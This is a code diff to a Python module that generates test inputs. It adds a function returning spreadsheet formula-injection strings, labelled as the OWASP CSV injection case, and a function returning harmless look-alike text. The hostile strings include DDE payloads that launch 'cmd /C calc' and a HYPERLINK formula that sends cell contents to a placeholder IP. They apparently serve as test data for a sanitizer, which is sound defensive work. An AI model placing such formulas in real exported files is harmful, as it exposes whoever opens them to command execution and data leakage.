@@ -24,9 +24,11 @@ __all__ = [
     "broken",
     "edited",
     "foreign_rows",
+    "formula",
     "in_places",
     "looping",
     "misread",
+    "no_formula",
     "questions",
     "sound_accents",
     "truncated",
@@ -283,6 +285,48 @@ def questions(folder: Path, draw: random.Random) -> Iterator[str]:
         found += draw.sample(sound, min(len(sound), 200))
     draw.shuffle(found)
     yield from dict.fromkeys(found)
+
+
+def formula(draw: random.Random) -> str:
+    """What a spreadsheet would run where a cell begins with it (OWASP, CSV injection)."""
+    a, b = draw.randrange(1, 90), draw.randrange(1, 90)
+    return draw.choice(
+        (
+            f"={a}+{b}",
+            f"=SUM(A{a}:B{b})",
+            f"+SUM(A{a}:B{b})",
+            f"-SUM(A{a}:B{b})",
+            f"@SUM(A{a}:B{b})",
+            f'=HYPERLINK("http://203.0.113.{a}/?x="&A{b},"more")',
+            f'=IMPORTXML("http://203.0.113.{a}/","//a")',
+            f"=cmd|' /C calc'!A{a}",
+            f"+{a}+{b}+cmd|' /C calc'!A{a}",
+            f"-{a}+{b}+cmd|' /C calc'!A{a}",
+            f' =DDE("cmd";"/C calc";"{a}")',
+            f"=A{a}&B{b}",
+        )
+    )
+
+
+def no_formula(draw: random.Random) -> str:
+    """Begins with one of the four characters, or holds an expression, and is text all the same."""
+    a, b = draw.randrange(1, 90), draw.randrange(1, 90)
+    return draw.choice(
+        (
+            "- first,",
+            "+ as well:",
+            f"-{a} degrees:",
+            f"+{a} % since {1900 + b}:",
+            "--",
+            "---",
+            "=====",
+            "=>",
+            f"x = {a} + {b}:",
+            f"{a} + {b} = {a + b}.",
+            "-> next:",
+            f"(= {a})",
+        )
+    )
 
 
 def broken(draw: random.Random) -> Iterator[Callable[[Plain], tuple[str, bytes]]]:
